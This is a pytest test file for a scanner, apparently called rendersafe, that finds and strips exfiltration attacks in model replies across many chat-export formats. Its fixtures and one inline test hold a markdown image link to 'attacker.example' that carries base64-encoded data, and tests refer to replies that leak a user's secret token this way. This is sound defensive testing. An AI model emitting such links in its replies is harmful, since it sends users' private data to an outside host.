"""The export formats people have (fixtures/exports/), read natively: each recognised,
its roles kept, each reply judged with the conversation before it, the attack in a
model message found, the user's text never judged or changed, and `--fix` writing the
same format back with only the model's text changed (byte for byte elsewhere)."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from rendersafe.cli import run
from rendersafe.scan import ASSISTANT_ROLES, ScanOptions, scan
from rendersafe.scan.records import RecordText, conversation_before, recognise, texts_of

EXPORTS = Path(__file__).parent.parent / "fixtures" / "exports"
TOKEN = "7f3kq9x2mz81"  # the user's secret, in a user message of every sample

# file, shape, roles of its first record, findings expected
FORMATS = [
    ("chatgpt/conversations.json", "chatgpt", ["system", "user", "model", "user", "model"], 2),
    ("claude/conversations.json", "claude", ["user", "model", "user", "model"], 2),
    ("open-webui/chat-export.json", "open-webui", ["user", "model", "user", "model"], 2),
    ("lmsys/lmsys-chat.jsonl", "lmsys", ["user", "model", "user", "model"], 2),
    ("wildchat/wildchat.jsonl", "lmsys", ["user", "model", "user", "model"], 2),
    ("langsmith/runs.jsonl", "langsmith", ["system", "user", "model"], 2),
    ("langchain/messages.json", "messages", ["system", "user", "model", "user", "model"], 2),
    ("openai-batch/batch_output.jsonl", "openai-batch", ["model"], 1),
    ("anthropic-batch/results.jsonl", "anthropic-batch", ["model"], 1),
    ("gemini/gemini-chats.jsonl", "gemini", ["system", "user", "model", "user", "model"], 2),
    ("vertex-batch/predictions.jsonl", "vertex-batch", ["user", "model"], 1),
    ("openai/chat-completion.json", "completion", ["model"], 1),
    ("openai/response.json", "responses", ["system", "model", "model"], 1),
]  # fmt: skip
PARQUET = [
    ("parquet/train-00000-of-00001.parquet", "chat", ["system", "user", "model"], 2),
    ("parquet/sharegpt.parquet", "sharegpt", ["user", "model"], 1),
]
IDS = [name for name, *_ in FORMATS]


def messages_of(record: Any) -> list[RecordText]:
    """The texts of a record a scan of every role would judge."""
    return [text for text in texts_of(record) if text.judged(None)]


def records(path: Path) -> list[Any]:
    """The records of a sample, as the scanner reads them."""
    if path.suffix == ".parquet":
        pq = pytest.importorskip("pyarrow.parquet")
        return list(pq.read_table(path).to_pylist())
    if path.suffix == ".jsonl":
        return [json.loads(line) for line in path.read_text().splitlines()]
    data = json.loads(path.read_text())
    if isinstance(data, list) and recognise(data) != "messages":
        return data
    return [data]


def cli(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = run(list(args), stdin=io.StringIO(""), stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


@pytest.mark.parametrize(
    ("name", "shape", "roles", "count"), [*FORMATS, *PARQUET], ids=[*IDS, "hf", "hf-sharegpt"]
)
def test_recognised_roles_kept_attack_found(
    name: str, shape: str, roles: list[str], count: int
) -> None:
    path = EXPORTS / name
    first = records(path)[0]
    assert recognise(first) == shape
    messages = messages_of(first)
    turns = sorted({(m.turn, m.role) for m in messages})
    assert [role for _, role in turns] == roles
    report = scan([str(path)], ScanOptions(), jobs=1)
    assert report.errors == []
    assert len(report.findings) == count
    assert {row.role for row in report.findings} <= ASSISTANT_ROLES
    reasons = {reason for row in report.findings for reason in row.reasons}
    # The leak of the user's token is only seen with the messages before the reply.
    if "user" in roles and shape != "vertex-batch":
        assert "conversation_data" in reasons
    assert reasons & {"encoded_base64", "conversation_data"}


def test_user_text_is_context_never_judged() -> None:
    report = scan([str(EXPORTS)], ScanOptions(), jobs=1)
    assert report.errors == []
    assert report.summary.files == len(FORMATS) + len(PARQUET)
    # Every user message quotes an image of tracker.example: never reported.
    assert "tracker.example" not in {row.host for row in report.findings}
    assert {row.role for row in report.findings} == {"model"}
    everyone = scan([str(EXPORTS)], ScanOptions(roles=None), jobs=1)
    assert "tracker.example" in {row.host for row in everyone.findings}


@pytest.mark.parametrize("name", [name for name, *_ in FORMATS], ids=IDS)
def test_fix_writes_the_same_format_with_only_model_text_changed(name: str, tmp_path: Path) -> None:
    path = EXPORTS / name
    code, _, err = cli("scan", str(path), "--fix", str(tmp_path), "--jobs", "1", "--quiet")
    assert code == 0, err  # every finding fixed
    fixed = tmp_path / path.name
    changed = assert_only_model_text_changed(records(path), records(fixed))
    # Byte for byte the original, but for the strings of the changed texts.
    expected = path.read_bytes()
    for old, new in changed:
        expected = expected.replace(json.dumps(old).encode(), json.dumps(new).encode())
    assert fixed.read_bytes() == expected
    again = scan([str(fixed)], ScanOptions(), jobs=1)
    assert again.findings == []
    assert again.errors == []


@pytest.mark.parametrize("name", [name for name, *_ in PARQUET])
def test_fix_writes_parquet_with_only_model_text_changed(name: str, tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    path = EXPORTS / name
    code, _, err = cli("scan", str(path), "--fix", str(tmp_path), "--jobs", "1", "--quiet")
    assert code == 0, err  # every finding fixed
    fixed = tmp_path / path.name
    assert fixed.read_bytes()[:4] == b"PAR1"
    assert assert_only_model_text_changed(records(path), records(fixed))
    before, after = pq.ParquetFile(path), pq.ParquetFile(fixed)
    assert after.schema_arrow.equals(before.schema_arrow, check_metadata=True)
    codec = before.metadata.row_group(0).column(0).compression
    assert after.metadata.row_group(0).column(0).compression == codec
    assert scan([str(fixed)], ScanOptions(), jobs=1).findings == []


def assert_only_model_text_changed(old: list[Any], new: list[Any]) -> list[tuple[str, str]]:
    """Each record's messages: same roles, the user's texts the same, only model texts
    changed; with those put back, the records are equal. The changed (old, new) texts."""
    assert len(old) == len(new)
    changed = []
    for before, after in zip(old, new, strict=True):
        ours, theirs = texts_of(before), texts_of(after)
        assert [m.role for m in ours] == [m.role for m in theirs]
        for mine, fixed in zip(ours, theirs, strict=True):
            if mine.text != fixed.text:
                assert mine.role in ASSISTANT_ROLES, (mine.role, mine.text)
                changed.append((mine.text, fixed.text))
                mine.put(fixed.text)
        assert before == after  # nothing else changed
    assert changed
    return changed


def test_chatgpt_every_branch_with_its_own_ancestors() -> None:
    conversation = records(EXPORTS / "chatgpt" / "conversations.json")[0]
    texts = texts_of(conversation)
    befores = {t.text: conversation_before(texts, i) for i, t in enumerate(texts) if t.judged(None)}
    leak, honest = (t.text for t in texts if t.role == "model" and t.judged(None))
    seen_by_leak = " ".join(m.text for m in befores[leak].messages)  # type: ignore[union-attr]
    seen_by_honest = " ".join(m.text for m in befores[honest].messages)  # type: ignore[union-attr]
    assert TOKEN in seen_by_leak  # its branch: the question with the token
    assert TOKEN not in seen_by_honest  # the other branch never saw it
    assert "csv" in seen_by_honest.lower()
    # The multimodal message: its text part read, its image pointer left alone.
    quarterly = messages_of(records(EXPORTS / "chatgpt" / "conversations.json")[1])
    assert [m.role for m in quarterly] == ["user", "model"]


def test_open_webui_fix_changes_both_copies(tmp_path: Path) -> None:
    path = EXPORTS / "open-webui" / "chat-export.json"
    cli("scan", str(path), "--fix", str(tmp_path), "--jobs", "1", "--quiet")
    chat = json.loads((tmp_path / path.name).read_text())[0]["chat"]
    listed = [m["content"] for m in chat["messages"] if m["role"] == "assistant"]
    tree = [m["content"] for m in chat["history"]["messages"].values() if m["role"] == "assistant"]
    assert listed == tree
    assert not any("attacker.example" in text for text in listed)
    report = scan([str(path)], ScanOptions(), jobs=1)
    assert len(report.findings) == 2  # each message judged once, not once per copy


def test_parquet_without_pyarrow_is_an_error_naming_the_file_and_the_extra(tmp_path: Path) -> None:
    blocker = tmp_path / "block" / "pyarrow"
    blocker.mkdir(parents=True)
    (blocker / "__init__.py").write_text("raise ImportError('blocked for this test')\n")
    env_path = f"{tmp_path / 'block'}:{Path(__file__).parent.parent / 'src'}"
    done = subprocess.run(
        [sys.executable, "-m", "rendersafe", "scan", str(EXPORTS), "--jobs", "1", "--quiet"],
        capture_output=True,
        text=True,
        env={"PYTHONPATH": env_path, "PATH": "/usr/bin:/bin"},
        check=False,
    )
    assert done.returncode == 1, done.stderr
    lines = [line for line in done.stderr.splitlines() if ".parquet" in line]
    assert len(lines) == 2  # a directory scan reports them, never skips them silently
    assert all("pip install 'rendersafe[parquet]'" in line for line in lines)
    assert any("train-00000-of-00001.parquet" in line for line in lines)


def _broken_exports(tmp_path: Path) -> tuple[list[Any], list[str]]:
    """A record that is not JSON (conversations.json), and a list cut short (cut.json)."""
    source = json.loads((EXPORTS / "chatgpt" / "conversations.json").read_text())
    good = [json.dumps(record, indent=1) for record in source]
    bad = tmp_path / "in" / "conversations.json"
    bad.parent.mkdir()
    bad.write_text("[\n" + good[0] + ',\n{"title": tru},\n' + good[1] + "\n]\n")
    cut = tmp_path / "in" / "cut.json"
    cut.write_text("[\n" + good[1] + ",\n" + good[0][: len(good[0]) // 2])
    return source, good


def test_a_broken_export_is_reported_and_its_fixed_copy_fails_closed(tmp_path: Path) -> None:
    """Each broken place reported at its line and record, the records around it
    scanned; the fixed copy holds a placeholder for the record that is not JSON, and
    there is none of the list cut short (its rest is not read)."""
    source, good = _broken_exports(tmp_path)
    report = scan([str(tmp_path / "in")], ScanOptions(fix_dir=tmp_path / "out"), jobs=1)
    errors = {(Path(e.path).name, e.line): e.message for e in report.errors}
    broken_line = 2 + good[0].count("\n") + 1
    assert errors[("conversations.json", broken_line)].startswith("record 1: not JSON")
    cut_line = 2 + good[1].count("\n") + 1
    assert errors[("cut.json", cut_line)].startswith("not JSON: the file ends inside record 1")
    assert errors[("cut.json", cut_line)].endswith("no fixed copy written")
    found = sorted((Path(r.path).name, r.record_id) for r in report.findings)
    assert found == [
        ("conversations.json", source[0]["id"]),
        ("conversations.json", source[1]["id"]),
        ("cut.json", source[1]["id"]),
    ]
    fixed = json.loads((tmp_path / "out" / "conversations.json").read_text())
    assert fixed[1] == {"rendersafe_withheld": "not_json"}
    assert [record["id"] for record in (fixed[0], fixed[2])] == [source[0]["id"], source[1]["id"]]
    assert not (tmp_path / "out" / "cut.json").exists()


def test_a_broken_export_kept_loses_nothing(tmp_path: Path) -> None:
    """`keep_unsanitisable`: what could not be read is copied to the fixed copy as it is."""
    _source, good = _broken_exports(tmp_path)
    options = ScanOptions(fix_dir=tmp_path / "out", keep_unsanitisable=True)
    scan([str(tmp_path / "in")], options, jobs=1)
    assert '{"title": tru}' in (tmp_path / "out" / "conversations.json").read_text()
    fixed_cut = (tmp_path / "out" / "cut.json").read_text()
    tail = good[0][: len(good[0]) // 2]
    assert fixed_cut.endswith(tail)  # copied through unread
    assert "attacker.example/p.png" in good[1]
    assert "attacker.example/p.png" not in fixed_cut[: -len(tail)]  # the record before: fixed


def test_lists_of_the_same_name_meaning_something_else_are_not_an_export() -> None:
    quiz = {"question": "2+2?", "choices": ["3", "4"], "response": "4"}
    assert recognise(quiz) == "reply"
    assert [m.text for m in messages_of(quiz)] == ["4"]
    survey = {"conversation": ["hi", "bye"], "reply": "ok"}
    assert recognise(survey) == "reply"
    assert recognise({"contents": ["a"], "text": "t"}) == "reply"


def test_a_list_of_records_that_start_like_langchain_messages(tmp_path: Path) -> None:
    img = "![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)"
    records = [
        {"type": "conversation", "messages": [{"role": "assistant", "content": img}]},
        {"type": "conversation", "messages": [{"role": "assistant", "content": "fine"}]},
    ]
    path = tmp_path / "records.json"
    path.write_text(json.dumps(records, indent=2))
    report = scan([str(path)], ScanOptions(fix_dir=tmp_path / "out"), jobs=1)
    assert report.errors == []
    assert report.summary.records == 2
    assert [row.record_id for row in report.findings] == ["0"]
    assert report.summary.bytes == path.stat().st_size
    fixed = json.loads((tmp_path / "out" / "records.json").read_text())
    assert fixed[1] == records[1]
    assert "attacker" not in json.dumps(fixed[0])
